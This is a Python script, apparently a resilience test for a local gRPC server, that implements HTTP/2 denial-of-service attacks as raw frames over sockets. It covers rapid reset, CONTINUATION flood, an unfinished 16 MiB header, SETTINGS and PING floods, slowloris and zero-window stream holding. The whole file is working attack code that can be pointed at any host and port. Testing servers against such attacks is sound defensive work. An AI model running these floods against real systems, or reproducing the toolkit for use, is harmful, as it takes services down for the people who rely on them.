"""Attacks on an HTTP/2 server as raw frames over a socket, without a library.

  attacks.py NAME HOST:PORT [--tls] [--source ADDRESS] [--seconds N] [--count N]
             [--refusals N] [--connections N] [--until-eof]

Runs one of ATTACKS until it has done `count` of what it does and so many
connections were refused, or as many were made as may be, or its time is up.
With --until-eof what has no end, and what holds connections, goes on after that
for as long as standard input is open. Prints what it did as JSON: "done",
"connections", and "refused", the connections that the server closed.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
PING, GOAWAY, CONTINUATION = 6, 7, 9
ACK, END_STREAM, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 4
CANCEL = 8
HEADER_STRING_BYTES = 16 << 20
FRAME_BYTES = 16 << 10
STREAMS_PER_CONNECTION = 100
RESETS_AT_ONCE = 200


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:]
            + struct.pack(">BBI", kind, flags, stream) + payload)


def hpack_integer(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    return hpack_integer(len(text), 7) + text


def hpack_literal(name, value):
    """Not indexed, no Huffman code."""
    return b"\x00" + hpack_string(name) + hpack_string(value)


def request_headers(path):
    return (b"\x83"  # :method POST
            + b"\x87"  # :scheme https
            + b"\x04" + hpack_string(path)  # :path
            + b"\x01" + hpack_string(b"localhost")  # :authority
            + hpack_literal(b"content-type", b"application/grpc")
            + hpack_literal(b"te", b"trailers"))


QUANTIZE = request_headers(b"/quantd.v1.QuantizationService/Quantize")
REFLECTION = request_headers(
    b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
# ServerReflectionRequest.list_services = "": a long answer to a short call.
LIST_SERVICES = b"\x00" + struct.pack(">I", 2) + b"\x3a\x00"


class Closed(Exception):
    """The server has closed the connection, or takes no more on it."""


class Connection:
    """One connection, over which any bytes can go; reads what comes."""

    def __init__(self, target, deadline, preface=True, settings=b""):
        self.deadline = deadline
        self._received = b""
        self._pongs = 0
        try:
            self._socket = socket.create_connection(
                target.address, timeout=target.seconds,
                source_address=(target.source, 0))
            if target.tls is not None:
                self._socket = target.tls.wrap_socket(
                    self._socket, server_hostname="localhost")
        except OSError as error:
            raise Closed() from error
        self._socket.setblocking(False)
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Sends all of it. Raises Closed; TimeoutError past the deadline."""
        view = memoryview(data)
        while view:
            self.read()
            try:
                view = view[self._socket.send(view):]
            except (BlockingIOError, ssl.SSLWantReadError,
                    ssl.SSLWantWriteError):
                if time.monotonic() > self.deadline:
                    raise TimeoutError() from None
                select.select([self._socket], [self._socket], [], 0.1)
            except OSError as error:
                raise Closed() from error

    def read(self):
        """Looks at what has come. Raises Closed."""
        while True:
            try:
                received = self._socket.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError,
                    ssl.SSLWantWriteError):
                return
            except OSError as error:
                raise Closed() from error
            if not received:
                raise Closed()
            self._received += received
            while len(self._received) >= 9:
                size = int.from_bytes(self._received[:3], "big")
                if len(self._received) < 9 + size:
                    break
                kind, flags = self._received[3:5]
                self._received = self._received[9 + size:]
                if kind == GOAWAY:
                    raise Closed()
                self._pongs += kind == PING and flags == ACK

    def wait_until_taken(self):
        """Until the server has come to the end of all that was sent."""
        expected = self._pongs + 1
        self.send(frame(PING, 0, 0, b"arrived?"))
        while self._pongs < expected and time.monotonic() < self.deadline:
            select.select([self._socket], [], [], 0.1)
            self.read()

    def wait_until_closed(self):
        while time.monotonic() < self.deadline:
            select.select([self._socket], [], [], 0.1)
            self.read()

    def close(self):
        self._socket.close()


class Target:
    """Whom to attack, from where, how long, and what came of it."""

    def __init__(self, options, tls):
        host, port = options.address.rsplit(":", 1)
        self.address = (socket.gethostbyname(host), int(port))
        self.source = options.source
        self.tls = tls
        self.seconds = options.seconds
        self.deadline = time.monotonic() + options.seconds
        whole = ATTACKS[options.name][1]
        self.count = whole or sys.maxsize
        if options.count is not None:
            self.count = options.count
        self.max_connections = options.connections
        self.done = 0
        self.connections = 0
        self.refused = 0
        self._refusals = options.refusals
        self._has_end = whole is not None
        self._may_end = not options.until_eof

    def going(self):
        return time.monotonic() < self.deadline and (
            self.done < self.count or self.refused < self._refusals or
            not (self._has_end or self._is_told_to_end()))

    def holding(self):
        """Whether the connections that are open are to stay so."""
        return time.monotonic() < self.deadline and (
            self.refused < self._refusals or not self._is_told_to_end())

    def _is_told_to_end(self):
        if not self._may_end:
            readable, _, _ = select.select([sys.stdin], [], [], 0)
            self._may_end = bool(readable)
        return self._may_end

    def attack(self, act, **connect):
        """`act` on connections one after another, until it is enough."""
        while self.going() and self.connections < self.max_connections:
            connection = None
            self.connections += 1
            try:
                connection = Connection(self, self.deadline, **connect)
                act(connection)
            except Closed:
                self.refused += 1
            except TimeoutError:
                pass
            finally:
                if connection is not None:
                    connection.close()


def unfinished_header(target):
    """A header whose value is said to have 16 MiB, which come bit by bit."""

    def act(connection):
        begin = (QUANTIZE + b"\x00" + hpack_string(b"x")
                 + hpack_integer(HEADER_STRING_BYTES, 7))
        connection.send(frame(HEADERS, 0, 1, begin))
        part = frame(CONTINUATION, 0, 1, b"x" * FRAME_BYTES)
        for _ in range(HEADER_STRING_BYTES // FRAME_BYTES - 1):
            connection.send(part)
        target.done += 1
        connection.wait_until_closed()

    target.attack(act)


def continuation_flood(target):
    """A header block that never ends, of frames that say little or nothing."""
    part = b"".join(
        frame(CONTINUATION, 0, 1, payload)
        for payload in [b"", hpack_literal(b"a", b"b"), b""] * 20)

    def act(connection):
        connection.send(frame(HEADERS, 0, 1, QUANTIZE))
        while target.going():
            connection.send(part)
            target.done += 60

    target.attack(act)


def rapid_resets(target):
    """Calls that are taken back as soon as they are made."""
    reset = struct.pack(">I", CANCEL)

    def act(connection):
        stream = 1
        while target.going():
            batch = b""
            for _ in range(RESETS_AT_ONCE):
                batch += (frame(HEADERS, END_HEADERS, stream, QUANTIZE)
                          + frame(RST_STREAM, 0, stream, reset))
                stream += 2
            connection.send(batch)
            # What is sent to a connection that ends counts for nothing.
            connection.wait_until_taken()
            target.done += RESETS_AT_ONCE

    target.attack(act)


def flood_with(part, frames):

    def act(target, connection):
        while target.going():
            connection.send(part)
            target.done += frames

    return lambda target: target.attack(lambda c: act(target, c))


settings_flood = flood_with(
    frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE,
                                      65535)) * 100, 100)
ping_flood = flood_with(frame(PING, 0, 0, b"12345678") * 100, 100)


def slowloris(target):
    """Many connections whose requests come byte by byte, at every stage:
    preface, header, body."""
    begins = [b"", PREFACE[:5], PREFACE + frame(SETTINGS, 0, 0),
              PREFACE + frame(SETTINGS, 0, 0)
              + frame(HEADERS, END_HEADERS, 1, QUANTIZE)]
    rests = [PREFACE, PREFACE[5:], frame(HEADERS, END_HEADERS, 1, QUANTIZE),
             frame(DATA, 0, 1, bytes(1000))]
    connections = []
    for i in range(min(target.count, target.max_connections)):
        if time.monotonic() > target.deadline:
            break
        try:
            connection = Connection(target, target.deadline, preface=False)
            connection.send(begins[i % len(begins)])
        except (Closed, TimeoutError):
            target.refused += 1
            continue
        connections.append((connection, rests[i % len(rests)]))
        target.connections += 1
    at = 0
    while connections:
        for entry in list(connections):
            connection, rest = entry
            try:
                connection.send(rest[at:at + 1])
                target.done += 1
            except (Closed, TimeoutError):
                target.refused += 1
                connections.remove(entry)
        at += 1
        if not target.holding():
            break
        time.sleep(0.1)
    for connection, _ in connections:
        connection.close()


def zero_window(target):
    """Calls whose answers may never be sent, held open."""
    settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
    connections = []
    while target.going() and target.connections < target.max_connections:
        target.connections += 1
        try:
            connection = Connection(target, target.deadline, settings=settings)
            for n in range(STREAMS_PER_CONNECTION):
                stream = 2 * n + 1
                connection.send(
                    frame(HEADERS, END_HEADERS, stream, REFLECTION)
                    + frame(DATA, END_STREAM, stream, LIST_SERVICES))
                target.done += 1
            connections.append(connection)
        except (Closed, TimeoutError):
            target.refused += 1
    while connections and target.holding():
        time.sleep(0.05)
        for connection in list(connections):
            try:
                connection.read()
            except Closed:
                target.refused += 1
                connections.remove(connection)
    for connection in connections:
        connection.close()


# With how much of it is all of it; None: it has no end. Of `slowloris` it is
# the connections.
ATTACKS = {
    "unfinished_header": (unfinished_header, None),
    "continuation_flood": (continuation_flood, None),
    "rapid_resets": (rapid_resets, 20_000),
    "settings_flood": (settings_flood, None),
    "ping_flood": (ping_flood, None),
    "slowloris": (slowloris, 400),
    "zero_window": (zero_window, 1000),
}


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("name", choices=ATTACKS)
    arguments.add_argument("address")
    arguments.add_argument("--tls", action="store_true")
    arguments.add_argument("--source", default="127.0.0.2")
    arguments.add_argument("--seconds", type=float, default=10)
    arguments.add_argument("--count", type=int)
    arguments.add_argument("--refusals", type=int, default=0)
    arguments.add_argument("--connections", type=int, default=sys.maxsize)
    arguments.add_argument("--until-eof", action="store_true")
    options = arguments.parse_args()
    tls = None
    if options.tls:
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname = False
        tls.verify_mode = ssl.CERT_NONE
        tls.set_alpn_protocols(["h2"])
    target = Target(options, tls)
    begin = time.monotonic()
    ATTACKS[options.name][0](target)
    json.dump({"done": target.done, "connections": target.connections,
               "refused": target.refused,
               "seconds": round(time.monotonic() - begin, 2)}, sys.stdout)


if __name__ == "__main__":
    main()
